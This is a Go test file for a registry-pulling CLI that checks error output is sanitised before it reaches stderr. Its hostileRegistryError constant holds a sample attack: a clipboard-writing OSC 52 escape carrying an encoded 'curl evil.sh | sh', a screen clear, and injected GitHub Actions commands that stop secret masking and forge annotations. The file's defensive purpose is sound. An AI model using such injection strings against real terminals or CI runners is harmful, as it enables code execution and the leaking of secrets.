package cli

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// hostileRegistryError is what a registry (or anything in front of it)
// can answer: terminal escapes (OSC 52 clipboard, a screen clear) and, on
// a line of its own, workflow commands that stop the runner's command
// processing (and with it the masking of later secrets) and fake an
// annotation.
const hostileRegistryError = "nope\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\n::stop-commands::pwned\n  ::error::forged annotation"

// TestExecuteErrorsAreText: the error Execute prints reaches stderr as
// text: no control sequence from a registry's answer, and in Actions no
// line that starts a workflow command.
func TestExecuteErrorsAreText(t *testing.T) {
	t.Parallel()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/v2/" {
			w.WriteHeader(http.StatusOK)
			return
		}
		w.Header().Set("Content-Type", "text/plain")
		w.WriteHeader(http.StatusBadRequest)
		_, _ = w.Write([]byte(hostileRegistryError))
	}))
	t.Cleanup(srv.Close)
	host := strings.TrimPrefix(srv.URL, "http://")
	for _, actions := range []bool{false, true} {
		env := map[string]string{"MLSHIP_CACHE_DIR": t.TempDir()}
		if actions {
			env["GITHUB_ACTIONS"] = "true"
		}
		code, _, stderr := mlship(t, env, "pull", host+"/acme/iris:prod", t.TempDir()+"/out")
		if code == 0 {
			t.Fatalf("pull from a failing registry exited 0:\n%s", stderr)
		}
		if !strings.Contains(stderr, "nope") {
			t.Fatalf("the registry's answer is not in the error (the test proves nothing):\n%q", stderr)
		}
		if i := strings.IndexFunc(stderr, isTerminalControl); i >= 0 {
			t.Errorf("actions=%v: stderr carries control character %q at %d: %q", actions, stderr[i:i+1], i, stderr)
		}
		if actions {
			for _, line := range strings.Split(stderr, "\n") {
				if strings.HasPrefix(strings.TrimLeft(line, " \t"), "::") {
					t.Errorf("stderr line starts a workflow command: %q", line)
				}
			}
		}
	}
}
